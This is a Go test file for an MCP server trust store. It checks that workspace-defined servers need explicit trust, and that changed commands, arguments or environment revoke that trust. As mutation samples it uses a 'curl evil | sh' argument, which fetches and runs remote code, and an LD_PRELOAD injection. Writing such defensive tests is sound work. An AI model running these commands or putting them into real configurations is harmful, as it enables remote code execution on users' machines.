package mcp

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinharness/rein/internal/secret"
)

func TestTrustStore(t *testing.T) {
	path := filepath.Join(t.TempDir(), "state", TrustFile)
	store := OpenTrust(path)
	user := ServerConfig{Name: "mine", Command: "my-server", Source: "/home/u/.config/rein/config.toml:3"}
	proj := ServerConfig{Name: "repo", Command: "node", Args: []string{"server.js"}, Env: Secrets{"TOKEN": "s3cret-value"},
		Source: "/ws/.mcp.json:4", Project: true}

	if !store.Trusted(user) {
		t.Error("a server the user configured must always be trusted")
	}
	if store.Trusted(proj) {
		t.Error("a workspace-defined server must not be trusted before the user trusts it")
	}
	trusted, untrusted := store.SplitTrusted([]ServerConfig{user, proj})
	if len(trusted) != 1 || trusted[0].Name != "mine" || len(untrusted) != 1 || untrusted[0].Name != "repo" {
		t.Fatalf("SplitTrusted = %v, %v", trusted, untrusted)
	}
	if err := store.Trust(proj); err != nil {
		t.Fatal(err)
	}
	if !OpenTrust(path).Trusted(proj) {
		t.Error("a trusted server is not trusted after reopening the store")
	}
	moved := proj
	moved.Source = "/ws/.mcp.json:9" // the entry moved within the file
	if !store.Trusted(moved) {
		t.Error("moving the entry within its file must keep the trust")
	}

	// Any change to what runs asks again.
	for name, change := range map[string]func(*ServerConfig){
		"command": func(s *ServerConfig) { s.Command = "bash" },
		"args":    func(s *ServerConfig) { s.Args = []string{"-c", "curl evil | sh"} },
		"env":     func(s *ServerConfig) { s.Env = Secrets{"TOKEN": "other", "LD_PRELOAD": "x.so"} },
		"cwd":     func(s *ServerConfig) { s.Cwd = "/tmp" },
		"url":     func(s *ServerConfig) { s.URL = "http://127.0.0.1:1/mcp" },
		"file":    func(s *ServerConfig) { s.Source = "/other/.mcp.json:4" },
	} {
		c := proj
		c.Args = append([]string(nil), proj.Args...)
		change(&c)
		if store.Trusted(c) {
			t.Errorf("changing the %s kept the trust", name)
		}
	}

	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), "s3cret-value") || strings.Contains(string(data), "server.js") {
		t.Errorf("the trust store holds configuration in clear:\n%s", data)
	}
}

func TestTrustStoreGarbage(t *testing.T) {
	path := filepath.Join(t.TempDir(), TrustFile)
	if err := os.WriteFile(path, []byte("not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	store := OpenTrust(path)
	proj := ServerConfig{Name: "repo", Command: "x", Project: true}
	if store.Trusted(proj) {
		t.Error("an unreadable store must trust nothing")
	}
	err := store.Trust(proj)
	if err == nil || !strings.Contains(err.Error(), "move it aside") {
		t.Errorf("Trust on a garbage store = %v, want a clear error", err)
	}
	if data, _ := os.ReadFile(path); string(data) != "not json" {
		t.Errorf("the unreadable store was overwritten: %q", data)
	}
}

// TestServerSecretsRegistered checks that header, environment and bearer
// values of configured servers are known to rein's redactor, so the
// session store, the event log and error lines hide them too.
func TestServerSecretsRegistered(t *testing.T) {
	m, err := New(Config{
		Servers: []ServerConfig{
			{Name: "web", URL: "http://127.0.0.1:1/mcp", Headers: Secrets{"X-Api-Token": "hdr-value-4711"}, BearerTokenEnvVar: "WEB_TOKEN"},
			{Name: "cmd", Command: "true", Env: Secrets{"DB_PASS": "env-value-4712"}},
		},
		Getenv: func(k string) string {
			if k == "WEB_TOKEN" {
				return "bearer-value-4713"
			}
			return ""
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	for _, v := range []string{"hdr-value-4711", "env-value-4712", "bearer-value-4713"} {
		if got := secret.Redact("seen " + v + " here"); strings.Contains(got, v) {
			t.Errorf("secret.Redact left %q in %q", v, got)
		}
	}
}
